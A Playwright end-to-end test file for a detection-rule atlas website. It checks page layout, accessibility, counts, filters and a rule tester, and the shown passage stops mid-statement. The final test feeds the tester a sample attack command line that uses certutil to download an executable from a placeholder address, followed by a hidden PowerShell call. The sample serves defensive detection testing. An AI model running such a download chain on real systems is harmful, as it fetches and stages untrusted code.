import { existsSync, readdirSync, readFileSync, statSync } from "node:fs"
import { join } from "node:path"

import type { Page } from "@playwright/test"

import { expect, expectAccessible, test } from "./fixtures"

/**
 * The heaviest pages of the build in out/, at a phone's and a laptop's width, in the light and
 * the dark colour scheme: no page is wider than the window, none logs a console error or fails a
 * request, and axe finds nothing serious. Then the home page's weight, the counts every page
 * shows, and ATT&CK's spellings of our addresses.
 *
 * Meant for the full corpus build (`.ci/run` sets ATLAS_SCALE=1 after it); on the small content/
 * build the same pages exist but are not heavy, so the browser suite skips this file by default.
 * The pages are picked from the build's own output (largest HTML of each kind), never from slugs
 * that drift as the corpora change.
 */

const OUT = "out"
const SCALE = process.env.ATLAS_SCALE === "1"
test.skip(
  !SCALE,
  "scale checks run on a corpus build: ATLAS_SCALE=1 npx playwright test e2e/scale.spec.ts (.ci/run does)",
)
test.describe.configure({ mode: "parallel" })

/** The page folder under `dir` (relative to out/) whose index.html is largest. */
function largest(dir: string, filter: (name: string) => boolean = () => true): string | undefined {
  const full = join(OUT, dir)
  if (!existsSync(full)) return undefined
  let best: { name: string; size: number } | undefined
  for (const name of readdirSync(full)) {
    const file = join(full, name, "index.html")
    if (!filter(name) || !existsSync(file)) continue
    const size = statSync(file).size
    if (!best || size > best.size) best = { name, size }
  }
  return best && `/${dir}/${best.name}/`
}

/** The Sysmon EventID 1 data source page, by its slug's words; else the largest data source page. */
function sysmonProcessCreation(): string | undefined {
  return largest("data-sources", (n) => /^sysmon-event-?id-1$/.test(n)) ?? largest("data-sources")
}

const HEAVY: Array<[label: string, path: string | undefined]> = SCALE
  ? [
      ["largest Splunk rule", largest("rules/splunk")],
      ["largest Sigma rule", largest("rules/sigma")],
      ["largest Elastic rule", largest("rules/elastic")],
      ["largest story", largest("stories")],
      ["technique with most rules", largest("techniques", (n) => /^t\d{4}(\.\d{3})?$/.test(n))],
      ["coverage", "/coverage/"],
      ["indicators", "/indicators/"],
      ["rules list", "/rules/"],
      ["ATT&CK matrix", "/attack/"],
      ["largest macro", largest("macros")],
      ["Sysmon EventID 1", sysmonProcessCreation()],
      ["tester", "/tester/"],
    ]
  : []

const VIEWPORTS = [
  { width: 390, height: 844 },
  { width: 1440, height: 900 },
]

async function pageWidth(page: Page): Promise<number> {
  return page.evaluate(() => Math.max(document.documentElement.scrollWidth, document.body.scrollWidth))
}

/** The elements that reach past the right edge, for the failure message. */
async function overflowing(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const w = window.innerWidth
    const out: string[] = []
    for (const el of document.querySelectorAll("body *")) {
      const r = el.getBoundingClientRect()
      if (r.right > w + 1 && r.width > 0) {
        // Only the outermost overflowing element of a branch says where the problem is.
        if (el.parentElement && el.parentElement.getBoundingClientRect().right > w + 1) continue
        out.push(
          `${el.tagName.toLowerCase()}${el.id ? `#${el.id}` : ""}.${String(el.className).split(" ").slice(0, 3).join(".")} (${Math.round(r.right)} px)`,
        )
      }
    }
    return out.slice(0, 5)
  })
}

/**
 * axe on a heavy page, without the long tails of its repeated rows: the largest Sigma rule holds
 * 26,000 elements of indicator rows alone, and axe over them takes minutes. The first rows of
 * every table and list are checked (the same component repeated), and everything else on the page.
 */
async function expectAccessibleAtScale(page: Page) {
  await expectAccessible(page, (axe) =>
    axe.exclude("tbody > tr:nth-child(n+101)").exclude("ul > li:nth-child(n+201)").exclude("ol > li:nth-child(n+201)"),
  )
}

for (const [label, path] of HEAVY) {
  for (const viewport of VIEWPORTS) {
    // axe once per colour scheme, at the laptop width; both widths get the width and error checks.
    const axe = viewport.width === 1440
    test(`${label} (${path}) fits ${viewport.width} px, light and dark, with no console error${axe ? " and no serious axe violation" : ""}`, async ({
      page,
      problems,
    }) => {
      // The largest Sigma rule page holds 26,000 elements: axe alone takes a minute on a quiet machine.
      test.setTimeout(360_000)
      expect(path, `no ${label} page in ${OUT}/`).toBeTruthy()
      await page.setViewportSize(viewport)
      for (const colorScheme of ["light", "dark"] as const) {
        await page.emulateMedia({ colorScheme })
        await page.goto(path as string, { waitUntil: "load" })
        await page.waitForLoadState("networkidle")
        const width = await pageWidth(page)
        console.log(
          `width ${String(viewport.width).padStart(4)} ${colorScheme.padEnd(5)} ${String(width).padStart(5)} px  ${label} ${path}`,
        )
        expect(
          width,
          `${path} at ${viewport.width} px (${colorScheme}) is ${width} px wide; past the edge: ${(await overflowing(page)).join(", ")}`,
        ).toBeLessThanOrEqual(viewport.width)
        if (axe) await expectAccessibleAtScale(page)
      }
      expect(problems).toEqual([])
    })
  }
}

test("the home page fetches at most 1 MB in its first 4 seconds, everything counted", async ({ page, problems }) => {
  // Pages, data, prefetches, the palette's code: all of it. The search index is fetched on a sign
  // that search is wanted (the button hovered or focused, the header touched, the shortcut), not
  // while a reader idles, so it has no place here.
  const sizes: Array<Promise<{ url: string; bytes: number }>> = []
  let open = true
  page.on("response", (r) => {
    if (open)
      sizes.push(
        r.body().then(
          (b) => ({ url: r.url(), bytes: b.length }),
          () => ({ url: r.url(), bytes: 0 }),
        ),
      )
  })
  await page.setViewportSize({ width: 1440, height: 900 })
  await page.goto("/")
  // Idle prefetching starts after load; a person reads the page for a few seconds.
  await page.waitForTimeout(4_000)
  open = false
  const all = await Promise.all(sizes)
  const bytes = all.reduce((a, r) => a + r.bytes, 0)
  const largest = [...all].sort((a, b) => b.bytes - a.bytes).slice(0, 5)
  console.log(
    `home page: ${all.length} responses, ${bytes.toLocaleString("en")} bytes in its first 4 s; largest: ${largest.map((r) => `${new URL(r.url).pathname} ${r.bytes.toLocaleString("en")}`).join(", ")}`,
  )
  expect(bytes).toBeLessThanOrEqual(1_000_000)
  expect(problems).toEqual([])
})

test("ATT&CK's spellings reach the technique and tactic pages", async ({ page, problems }) => {
  for (const [from, to, heading] of [
    ["/techniques/T1047/", "/techniques/t1047/", /T1047/],
    ["/techniques/T1059.001/", "/techniques/t1059.001/", /T1059\.001/],
    ["/tactics/TA0002/", "/tactics/execution/", /Execution/],
  ] as const) {
    await page.goto(from)
    await expect(page).toHaveURL(new RegExp(`${to.replaceAll(".", "\\.")}$`))
    await expect(page).toHaveTitle(heading)
  }
  expect(problems).toEqual([])
})

test("the same number for the same thing on every page", async ({ page, problems }) => {
  const report = JSON.parse(readFileSync(join(OUT, "report.json"), "utf8")) as { counts: { detections: number } }
  const num = async (selector: string) =>
    Number(((await page.locator(selector).first().textContent()) ?? "").replace(/[^\d]/g, ""))
  await page.goto("/")
  const home = {
    rules: await num('[data-testid="count-detection"]'),
    techniques: await num('[data-testid="count-att&ck"]'),
    dataSources: await num('[data-testid="count-data"]'),
  }
  await page.goto("/attack/")
  const matrix =
    (await page
      .getByText(/[\d,]+ rules · [\d,]+ techniques covered/)
      .first()
      .textContent()) ?? ""
  const [, matrixRules, matrixTechniques] = (/([\d,]+) rules · ([\d,]+) techniques covered/.exec(matrix) ?? []).map(
    (n) => n.replaceAll(",", ""),
  )
  await page.goto("/events/")
  const events = await num('[data-testid="data-sources-defined"]')
  await page.goto("/coverage/")
  await expect(page.getByTestId("picker-defined")).toBeVisible()
  const coverage = await num('[data-testid="picker-defined"]')
  await page.goto("/data-sources/")
  const listed = await page.locator("main table tbody tr").count()
  console.log(
    `counts: rules home ${home.rules}, matrix ${matrixRules}, report ${report.counts.detections}; techniques covered home ${home.techniques}, matrix ${matrixTechniques}; data sources home ${home.dataSources}, /events/ ${events}, /coverage/ ${coverage}, /data-sources/ ${listed}`,
  )
  expect(home.rules).toBe(report.counts.detections)
  expect(Number(matrixRules)).toBe(home.rules)
  expect(Number(matrixTechniques)).toBe(home.techniques)
  expect([events, coverage, listed]).toEqual([home.dataSources, home.dataSources, home.dataSources])
  expect(problems).toEqual([])
})

test("SigmaHQ's WMIC Remote Command Execution reads as SPL on its page, with copy", async ({
  page,
  context,
  problems,
}) => {
  // Found by the rule's id (ids do not drift as files are renamed): /id/map.json maps it to `format/slug`.
  const map = JSON.parse(readFileSync(join(OUT, "id", "map.json"), "utf8")) as Record<string, string>
  const path = map["7773b877-5abb-4a3e-b9c9-fd0369b59b00"]
  test.skip(path === undefined, "the SigmaHQ rule is not in this build")
  await context.grantPermissions(["clipboard-read", "clipboard-write"])
  await page.goto(`/rules/${path}/`)
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("WMIC Remote Command Execution")
  const raw = page.getByRole("region", { name: "Splunk SPL" }).getByRole("group", { name: "Raw Windows events" })
  await expect(raw.locator("pre")).toContainText('CommandLine IN ("*-node:*", "*/node:*"')
  await expect(raw.getByTestId("round-trip")).toHaveText(/agree on all \d+ events generated/)
  await raw.getByRole("button", { name: "Copy" }).click()
  await expect(raw.getByRole("button")).toHaveText("Copied")
  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('"*/node:*"')
  expect(problems).toEqual([])
})

test("a SigmaHQ rule reading a field the CIM model lacks gets a data-model search, saying why, checked", async ({
  page,
  problems,
}) => {
  const map = JSON.parse(readFileSync(join(OUT, "id", "map.json"), "utf8")) as Record<string, string>
  const path = map["48a61b29-389f-4032-b317-b30de6b95314"]
  test.skip(path === undefined, "the SigmaHQ rule is not in this build")
  await page.goto(`/rules/${path}/`)
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("Suspicious Plink Port Forwarding")
  const cim = page
    .getByRole("region", { name: "Splunk SPL" })
    .getByRole("group", { name: "CIM data model (data-model search)" })
  const pre = cim.locator("pre")
  await expect(pre).toContainText("| datamodel Endpoint Processes search strict_fields=false")
  await expect(pre).toContainText("Not tstats: Description is not a field of Endpoint.Processes.")
  await expect(pre).toContainText('Description="Command-line SSH, Telnet, and Rlogin client"')
  await expect(cim.getByTestId("round-trip")).toHaveText(/agree on all \d+ events generated/)
  expect(problems).toEqual([])
})

test("the Elastic WMI rule's page: T1047, severity high, risk 73, its EQL and predicate, indicators across the formats", async ({
  page,
  problems,
}) => {
  const path = "/rules/elastic/execution-suspicious-cmd-wmi/"
  test.skip(!existsSync(join(OUT, path, "index.html")), `${path} is not in this build (no Elastic corpus)`)
  await page.goto(path)
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("Suspicious Cmd Execution via WMI")
  await expect(page.getByRole("region", { name: "MITRE ATT&CK coverage" })).toContainText("T1047")
  await expect(page.getByLabel("Classification")).toContainText("severity: high")
  await expect(page.getByLabel("Classification")).toContainText("risk score: 73")
  const query = page.getByRole("region", { name: "Query" })
  await expect(query).toContainText("EQL")
  await expect(query).toContainText('process.parent.name : "WmiPrvSE.exe"')
  const stages = page.getByRole("region", { name: "Stages and predicates" })
  await expect(stages.getByTestId("evaluability")).toContainText("Evaluable on a single event")
  await expect(stages.getByRole("group", { name: "AND: all of" }).first()).toContainText("WmiPrvSE.exe")
  // Corpus counts name the formats sharing an indicator: the three meet on this page.
  const counts = await page
    .getByTestId("indicators-table")
    .locator("tbody td:last-child")
    .evaluateAll((cells) => cells.map((c) => c.getAttribute("title") ?? ""))
  for (const label of ["Splunk", "Sigma", "Elastic"]) expect(counts.join(" "), label).toContain(label)
  await expect(page.getByTestId("rule-log-source")).toContainText("host.os.type")
  expect(problems).toEqual([])
})

test("an id that a SigmaHQ and an Elastic rule share leads to both rules from /id/", async ({ page, problems }) => {
  // Ids are unique within a format only; the build warns on each shared one (report.json).
  const report = JSON.parse(readFileSync(join(OUT, "report.json"), "utf8")) as {
    diagnostics: Array<{ code: string; message: string }>
  }
  const shared = report.diagnostics.find((d) => d.code === "shared-id")
  test.skip(shared === undefined, "no id is shared across formats in this build")
  const id = /^id (\S+)/.exec(shared!.message)![1]!
  await page.goto(`/id/?${id}`)
  await expect(page.getByTestId("rule-id").getByRole("status")).toContainText(`Rules of 2 formats share the id ${id}`)
  const links = page.getByTestId("rule-id").getByRole("listitem").getByRole("link")
  await expect(links).toHaveCount(2)
  const hrefs = await links.evaluateAll((as) => as.map((a) => a.getAttribute("href") ?? ""))
  expect(hrefs.map((h) => h.split("/")[2]).sort()).toEqual(["elastic", "sigma"])
  // Each leads to its own rule page, whose metadata shows the shared id.
  for (const i of [0, 1]) {
    await page.goto(`/id/?${id}`)
    await links.nth(i).click()
    await expect(page).toHaveURL(new RegExp(`${hrefs[i]}$`))
    await expect(page.getByTestId("metadata")).toContainText(new RegExp(id, "i"))
  }
  expect(problems).toEqual([])
})

/**
 * Journeys a detection engineer makes on the corpus build: the rule pages of the three formats, a
 * technique's list on a phone, the pages that hold long lists, a dead link, "What can I run?".
 */
test.describe("journeys at scale", () => {
  const SPLUNK_WMI = "/rules/splunk/remote-wmi-command-attempt/"
  const ELASTIC_WMI = "/rules/elastic/execution-suspicious-cmd-wmi/"

  test("a Splunk and an Elastic rule page show the query before the file as written, wrapped, and print without the site around them", async ({
    page,
    problems,
  }) => {
    await page.setViewportSize({ width: 1440, height: 900 })
    for (const [path, query] of [
      [SPLUNK_WMI, "Search"],
      [ELASTIC_WMI, "Query"],
    ] as const) {
      test.skip(!existsSync(join(OUT, path, "index.html")), `${path} is not in this build`)
      await page.goto(path)
      const top = (name: string) =>
        page
          .getByRole("heading", { level: 2, name, exact: true })
          .evaluate((h) => h.getBoundingClientRect().top + window.scrollY)
      const [queryTop, bodyTop] = [await top(query), await top("Rule body")]
      // The query within two screens of the top (it sat 3,000 px down on Splunk pages and 6,500 on Elastic ones).
      console.log(`${path}: ${query} at ${Math.round(queryTop)} px, Rule body at ${Math.round(bodyTop)} px`)
      expect(queryTop).toBeLessThan(bodyTop)
      expect(queryTop).toBeLessThan(1_800)
      // The query wraps: nothing of it hides past the box's right edge.
      const block = page.getByRole("region", { name: query, exact: true }).locator("pre").first()
      const [scroll, client] = await block.evaluate((pre) => [pre.scrollWidth, pre.clientWidth])
      expect(scroll, `${path}: the query scrolls sideways`).toBeLessThanOrEqual(client)
      // The description reads as prose: Elastic's TOML wraps it at 120 columns, which showed as ragged lines.
      expect(await page.getByTestId("rule-description").textContent()).not.toContain("\n")
      // One "Required fields" section, whatever the format adds.
      await expect(page.getByRole("heading", { level: 2, name: "Required fields", exact: true })).toHaveCount(1)
    }
    // Paper: no header, menu or buttons; the rule file wraps instead of losing its line ends.
    await page.emulateMedia({ media: "print" })
    await expect(page.locator("body > header")).toBeHidden()
    await expect(page.getByRole("button", { name: "Copy" }).first()).toBeHidden()
    const cut = await page
      .locator("main pre")
      .evaluateAll((pres) => pres.filter((p) => p.scrollWidth > p.clientWidth + 1).length)
    expect(cut, "code blocks cut at the paper's edge").toBe(0)
    expect(problems).toEqual([])
  })

  test("on a phone a technique's first rule shows under its list's title; Filters opens the facets, which narrow by format and level", async ({
    page,
    problems,
  }) => {
    await page.setViewportSize({ width: 390, height: 844 })
    await page.goto("/techniques/T1059.001/")
    await expect(page).toHaveURL(/\/techniques\/t1059\.001\/$/)
    const table = page.getByTestId("rule-table")
    const first = table.getByTestId("rule-cards").getByRole("listitem").first()
    await expect(first).toBeVisible()
    const gap = await first.evaluate(
      (li, t) => li.getBoundingClientRect().top - (t?.getBoundingClientRect().top ?? 0),
      await table.elementHandle(),
    )
    console.log(`T1059.001 at 390 px: first rule ${Math.round(gap)} px below the list's top`)
    expect(gap).toBeLessThan(250)
    const high = table.getByRole("button", { name: /^high \(\d+\)$/ })
    await expect(high).toBeHidden()
    await table.getByRole("button", { name: "Filters" }).click()
    // A build of one corpus offers no format facet; of several, the first format narrows too.
    const formats = table.getByRole("group", { name: "Format" }).getByRole("button")
    const format =
      (await formats.count()) > 0 ? ((await formats.first().textContent()) ?? "").replace(/ \(\d+\)$/, "") : ""
    if (format) {
      await formats.first().click()
      await expect(page).toHaveURL(new RegExp(`[?&]format=${format.toLowerCase()}`))
    }
    await high.click()
    await expect(page).toHaveURL(/[?&]level=high/)
    await expect(table.getByRole("button", { name: format ? "Filters (2 on)" : "Filters (1 on)" })).toBeVisible()
    // Every card left is a rule of that format and level high; tactics read as ATT&CK names.
    const cards = await table.getByTestId("rule-cards").getByRole("listitem").locator("p").allTextContents()
    expect(cards.length).toBeGreaterThan(0)
    for (const c of cards) expect(c).toMatch(new RegExp(`^${format || "[A-Z][a-z]+"} · .* · high · `))
    await expect(table.getByRole("button", { name: /^Execution \(\d+\)$/ })).toBeVisible()
    expect(await pageWidth(page)).toBeLessThanOrEqual(390)
    expect(problems).toEqual([])
  })

  test("the Sysmon EventID 1 and Volt Typhoon pages say at once how many rules they hold, linked to the list", async ({
    page,
    problems,
  }) => {
    await page.setViewportSize({ width: 390, height: 844 })
    const path = sysmonProcessCreation() as string
    await page.goto(path)
    const count = page.getByTestId("data-source-rule-count")
    await expect(count).toBeInViewport()
    const heading = (await page.getByRole("heading", { level: 2, name: /^Rules that read it/ }).textContent()) ?? ""
    const n = /\((\d+)\)/.exec(heading)?.[1] ?? "?"
    await expect(count).toHaveText(new RegExp(`^${Number(n).toLocaleString("en")} rules? reads? it$`))
    await count.click()
    await expect(page.getByRole("heading", { level: 2, name: /^Rules that read it/ })).toBeInViewport()
    const story = largest("stories")
    if (story) {
      await page.goto(story)
      await expect(page.getByTestId("story-counts")).toBeInViewport()
      await expect(page.getByTestId("story-counts")).toHaveText(/^[\d,]+ rules? · [\d,]+ ATT&CK techniques?$/)
    }
    expect(problems).toEqual([])
  })

  test("a dead rule link says so in its title and offers a search for its words", async ({ page, problems }) => {
    const response = await page.goto("/rules/splunk/remote-wmi-command-attempt-old/")
    expect(response?.status()).toBe(404)
    await expect(page).toHaveTitle(/^Page not found · /)
    const search = page.getByTestId("not-found-search").getByRole("link")
    await expect(search).toHaveText("Search for “remote wmi command attempt old”")
    await expect(search).toHaveAttribute("href", "/search/?q=remote%20wmi%20command%20attempt%20old")
    // The page's own 404 is the answer asked for, not a problem.
    expect(problems.filter((p) => !p.includes("remote-wmi-command-attempt-old"))).toEqual([])
  })

  test("What can I run? names each rule's format, and the rules naming no data source as such", async ({
    page,
    problems,
  }) => {
    await page.goto("/coverage/?ds=sysmon-eventid-1")
    await expect(page.getByTestId("coverage-summary")).toHaveText(
      /^\d+ runnable · \d+ not runnable · \d+ name no data source · \d+ techniques covered$/,
    )
    const kinds = await page.getByTestId("runnable-rules").getByRole("listitem").allTextContents()
    expect(kinds.length).toBeGreaterThan(0)
    for (const k of kinds) expect(k).toMatch(/\((Splunk|Sigma|Elastic) · [^)]+\)$/)
    expect(problems).toEqual([])
  })

  test("on a phone a rule's tables break between words, and an indicator names each of its rules' formats", async ({
    page,
    problems,
  }) => {
    await page.setViewportSize({ width: 390, height: 844 })
    // Elastic's WMI rule has four tactics' rows ("Lateral Movement" among them); builds without Elastic use Splunk's.
    await page.goto(existsSync(join(OUT, ELASTIC_WMI, "index.html")) ? ELASTIC_WMI : SPLUNK_WMI)
    // Every cell at least as wide as its longest word ("Lateral Movemen/t", "Proces/s creat/ion" before).
    const split = async (table: string) =>
      page.locator(`${table} td`).evaluateAll((cells) => {
        const ctx = document.createElement("canvas").getContext("2d") as CanvasRenderingContext2D
        return cells
          .filter((td) => td.getBoundingClientRect().width > 0)
          .flatMap((td) => {
            const style = getComputedStyle(td)
            ctx.font = `${style.fontWeight} ${style.fontSize} ${style.fontFamily}`
            const room = td.clientWidth - parseFloat(style.paddingLeft) - parseFloat(style.paddingRight)
            const words = (td.textContent ?? "").split(/[\s/]+/).filter((w) => w.length > 0 && w.length <= 12)
            const longest = Math.max(0, ...words.map((w) => ctx.measureText(w).width))
            return longest > room + 1 ? [`${td.textContent} (${Math.round(room)} px for ${Math.round(longest)})`] : []
          })
      })
    expect(await split("section[aria-labelledby=attack-title]")).toEqual([])
    await page.goto(SPLUNK_WMI)
    expect(await split("[data-testid=event-table]")).toEqual([])
    await page.goto("/indicators/?field=process-name&kind=eq&value=wmic.exe")
    await expect(page).toHaveTitle(/^wmic\.exe · /)
    const rules = page.getByRole("list", { name: "Rules with this indicator" }).getByRole("listitem")
    await expect(rules.first()).toBeVisible()
    for (const text of await rules.allTextContents()) expect(text).toMatch(/ · (Splunk|Sigma|Elastic)$/)
    await expect(
      page.getByText(/rules test this indicator .*: (Splunk|Sigma|Elastic) \d+(, (Splunk|Sigma|Elastic) \d+)*\.$/),
    ).toBeVisible()
    expect(problems).toEqual([])
  })

  test("a deprecated rule says so in words above its description, and an empty stage shows no empty box", async ({
    page,
    problems,
  }) => {
    await page.goto("/rules/?status=deprecated")
    await expect(page.getByTestId("rule-count")).toHaveText(/ of [\d,]+ rules$/)
    const first = page.getByTestId("rule-rows").locator("tbody tr a").first()
    test.skip((await first.count()) === 0, "no deprecated rule in this build")
    await first.click()
    await expect(page.getByTestId("deprecated-note")).toBeVisible()
    await expect(page.getByTestId("deprecated-note")).toContainText("Deprecated by its authors")
    const ml = "/rules/elastic/ml-cloudtrail-error-message-spike/"
    if (existsSync(join(OUT, ml, "index.html"))) {
      await page.goto(ml)
      await expect(page.getByTestId("deprecated-note")).toHaveCount(0)
      const empty = await page
        .locator(".stage pre")
        .evaluateAll((pres) => pres.filter((p) => !p.textContent?.trim()).length)
      expect(empty).toBe(0)
    }
    expect(problems).toEqual([])
  })

  test("on a phone the matrix's table of outdated technique ids folds each id's rules past the first three", async ({
    page,
    problems,
  }) => {
    await page.setViewportSize({ width: 390, height: 844 })
    await page.goto("/attack/")
    const table = page.getByTestId("flagged-ids")
    test.skip((await table.count()) === 0, "every technique id the rules use is live in this build")
    const shown = await table
      .locator("tbody tr")
      .evaluateAll((rows) =>
        rows.map((r) => [...r.querySelectorAll("td:last-child a")].filter((a) => a.checkVisibility()).length),
      )
    expect(Math.max(...shown)).toBeLessThanOrEqual(3)
    const height = await table.evaluate((t) => t.getBoundingClientRect().height)
    console.log(`/attack/ at 390 px: outdated-id table ${Math.round(height)} px tall for ${shown.length} ids`)
    // Ids stay whole ("T1 68 5" before).
    const ids = await table
      .locator("tbody tr td:first-child a")
      .evaluateAll((as) => as.map((a) => a.getClientRects().length))
    expect(ids.every((n) => n === 1)).toBe(true)
    expect(await pageWidth(page)).toBeLessThanOrEqual(390)
    expect(problems).toEqual([])
  })
})

test.describe("what a detection engineer meets at scale", () => {
  test("/indicators/ gives one row per meaning and value: command line contains /node: with every rule, its spellings and fields beside it", async ({
    page,
    problems,
  }) => {
    for (const width of [390, 1440]) {
      await page.setViewportSize({ width, height: 900 })
      await page.goto("/indicators/?field=command-line&kind=contains&q=%2Fnode%3A")
      const rows = page.getByTestId("indicator-row")
      await expect(rows.first()).toBeVisible()
      // Exactly one row reads "/node:" (Sigma also writes " /node:"; it joins this row).
      const node = rows.filter({ has: page.getByRole("link", { name: "/node:", exact: true }) })
      await expect(node).toHaveCount(1)
      const count = Number(await node.locator("td").nth(3).textContent())
      expect(count).toBeGreaterThanOrEqual(3)
      await expect(node.getByTestId("indicator-variants")).toContainText("“ /node:”")
      await expect(node).toContainText(/Splunk \d+, Sigma \d+/)
      if (width === 1440) await expect(node.locator("td").first()).toContainText("(process, CommandLine")
      expect(await pageWidth(page)).toBeLessThanOrEqual(width)
    }
    await page.getByRole("link", { name: "/node:", exact: true }).click()
    const list = page.getByRole("list", { name: "Rules with this indicator" })
    await expect(list.getByRole("link", { name: "WMIC Remote Command Execution" })).toBeVisible()
    await expect(list.getByRole("link", { name: "Webshell Detection With Command Line Keywords" })).toBeVisible()
    await expect(list.getByRole("link", { name: "Remote Process Instantiation via WMI" })).toBeVisible()
    await expectAccessibleAtScale(page)
    expect(problems).toEqual([])
  })

  test("the rule list filters by what a match does across formats, and names each type with its formats", async ({
    page,
    problems,
  }) => {
    await page.setViewportSize({ width: 1440, height: 900 })
    await page.goto("/rules/")
    const count = page.getByTestId("rule-count")
    await expect(count).toHaveText(/^([\d,]+) of \1 rules$/)
    const purpose = page.getByRole("group", { name: "What a match does" })
    const types = page.getByRole("group", { name: "Type in its format" })
    const chips = await purpose.getByRole("button").allTextContents()
    expect(chips.map((c) => c.replace(/ \([\d,]+\)$/, ""))).toEqual([
      "Alerts",
      "Feeds other rules",
      "Hunting",
      "Correlation",
    ])
    const total = Number((await count.textContent())!.match(/of ([\d,]+)/)![1]!.replace(/,/g, ""))
    expect(chips.reduce((a, c) => a + Number(c.match(/\(([\d,]+)\)$/)![1]!.replace(/,/g, "")), 0)).toBe(total)
    // Over twelve values a facet is a list box, else a row of buttons.
    const typeValues = async () => {
      const box = page.getByRole("combobox", { name: "Type in its format" })
      const texts =
        (await box.count()) > 0
          ? await box.locator("option").allTextContents()
          : await types.getByRole("button").allTextContents()
      return texts.filter((t) => t !== "all").map((c) => c.trim())
    }
    const typeNames = await typeValues()
    for (const t of ["Splunk: TTP", "Sigma: Detection", "Elastic: EQL", "Splunk, Sigma: Hunting"])
      expect(typeNames.some((n) => n.startsWith(`${t} (`))).toBe(true)
    await purpose.getByRole("button", { name: /^Feeds other rules/ }).click()
    await expect(page).toHaveURL(/purpose=signal/)
    await expect(count).not.toHaveText(/^([\d,]+) of \1 rules$/)
    const left = (await typeValues()).map((c) => c.replace(/ \([\d,]+\)$/, ""))
    for (const t of left) expect(t).toMatch(/^Splunk: Anomaly$|^Elastic: .+ \(building block\)$/)
    await expectAccessibleAtScale(page)
    expect(problems).toEqual([])
  })

  test("a technique page's Navigator layer follows its rule list's filters", async ({ page, problems }) => {
    await page.setViewportSize({ width: 1440, height: 900 })
    await page.goto("/techniques/t1047/?format=sigma")
    const count = page.getByTestId("rule-table").getByTestId("rule-count")
    await expect(count).toHaveText(/^\d+ of \d+ rules$/)
    const shown = Number((await count.textContent())!.split(" ")[0])
    const note = page.getByTestId("layer-filters")
    await expect(note).toHaveText(`Follows the rule list's filters (Format=Sigma): ${shown} rules.`)
    const button = page.getByRole("button", { name: "Download Navigator layer" })
    const [download] = await Promise.all([page.waitForEvent("download"), button.click()])
    expect(download.suggestedFilename()).toBe("detection-atlas-t1047-format-sigma-layer.json")
    const layer = JSON.parse(readFileSync((await download.path())!, "utf8")) as {
      name: string
      techniques: Array<{ techniqueID: string; score: number; links: Array<{ url: string }> }>
    }
    expect(layer.name).toContain("(Format=Sigma)")
    const urls = new Set(layer.techniques.flatMap((t) => t.links.map((l) => new URL(l.url).pathname)))
    expect(urls.size).toBe(shown)
    for (const u of urls) expect(u).toMatch(/^\/rules\/sigma\//)
    for (const t of layer.techniques) expect(t.score).toBe(t.links.length)

    // Cleared, the whole list again: every format's rules.
    await page
      .getByTestId("rule-table")
      .getByRole("button", { name: /^Sigma \(\d+\)$/ })
      .click()
    await expect(note).toBeHidden()
    const [all] = await Promise.all([page.waitForEvent("download"), button.click()])
    expect(all.suggestedFilename()).toBe("detection-atlas-t1047-layer.json")
    const whole = JSON.parse(readFileSync((await all.path())!, "utf8")) as typeof layer
    const formats = new Set(whole.techniques.flatMap((t) => t.links.map((l) => new URL(l.url).pathname.split("/")[2])))
    expect(formats.size).toBeGreaterThan(1)
    expect(problems).toEqual([])
  })

  test("What can I run? groups the rules naming no data source by the log source they do name", async ({
    page,
    problems,
  }) => {
    test.setTimeout(240_000)
    for (const width of [390, 1440]) {
      await page.setViewportSize({ width, height: 900 })
      await page.goto("/coverage/?ds=sysmon-eventid-1")
      const summary = page.getByTestId("coverage-summary")
      await expect(summary).toHaveText(/ name no data source · /)
      const unknown = Number(
        (await summary.textContent())!.match(/([\d,]+) name no data source/)![1]!.replace(/,/g, ""),
      )
      const section = page.getByRole("region", { name: /^Rules that name no data source/ })
      await expect(section.getByRole("heading")).toHaveText(
        `Rules that name no data source (${unknown.toLocaleString("en")})`,
      )
      await expect(section.getByTestId("unnamed-summary")).toBeVisible()
      await section.getByRole("button", { name: /^Show all [\d,]+ log sources$/ }).click()
      const groups = section.getByTestId("unknown-rules").locator(":scope > li")
      const labels = await groups.locator("summary").allTextContents()
      // Every rule in exactly one group; each group says what the rules name, in their format's words.
      const sum = labels.reduce((a, l) => a + Number(l.match(/\(([\d,]+) rules?:/)![1]!.replace(/,/g, "")), 0)
      expect(sum).toBe(unknown)
      for (const l of labels)
        expect(l).toMatch(
          /^(Sigma logsource: |Elastic "Data Source" tag: |Elastic integration: |Elastic index: |Splunk data model: |Splunk sourcetype: |\w+ search on: |names no log source either)/,
        )
      expect(labels.some((l) => l.startsWith("Sigma logsource: linux / process_creation ("))).toBe(true)
      // A group opens on its rules.
      const first = groups.first()
      await first.locator("summary").click()
      await expect(first.getByRole("link").first()).toBeVisible()
      expect(await pageWidth(page)).toBeLessThanOrEqual(width)
      if (width === 1440) await expectAccessibleAtScale(page)
    }
    expect(problems).toEqual([])
  })
})

test("typing in the tester after a report is shown does not render the report again for each key", async ({
  page,
  problems,
}) => {
  test.setTimeout(120_000)
  await page.setViewportSize({ width: 1440, height: 900 })
  // A command line many rules fire or nearly fire on: a report of hundreds of rules.
  const start = "cmd.exe /c whoami /all && certutil -urlcache -split -f http://10.0.0.5/a.exe a.exe && "
  await page.goto(`/tester/#cmd=${encodeURIComponent(start)}`)
  await expect(page.getByTestId("verdict").first()).toBeVisible({ timeout: 60_000 })
  await expect(page.getByRole("status").first()).toHaveText(/^Evaluated against [\d,]+ rules\.$/)
  await page.evaluate(() => {
    const w = window as unknown as { __long: number[] }
    w.__long = []
    new PerformanceObserver((l) => {
      for (const e of l.getEntries()) w.__long.push(e.duration)
    }).observe({ type: "longtask" })
  })
  // A machine four times slower (or a CI box under load): a report render per key was a long task per key.
  const cdp = await page.context().newCDPSession(page)
  await cdp.send("Emulation.setCPUThrottlingRate", { rate: 4 })
  const box = page.locator("#t-cmd")
  await box.focus()
  await box.press("End")
  const typed = "powershell -nop -w hidden -c x"
  await box.pressSequentially(typed, { delay: 40 })
  const during = await page.evaluate(() => [...(window as unknown as { __long: number[] }).__long])
  await cdp.send("Emulation.setCPUThrottlingRate", { rate: 1 })
  await expect(box).toHaveValue(start + typed)
  await expect(page.getByRole("status").first()).toHaveText(/^Evaluated against [\d,]+ rules\.$/)
  console.log(
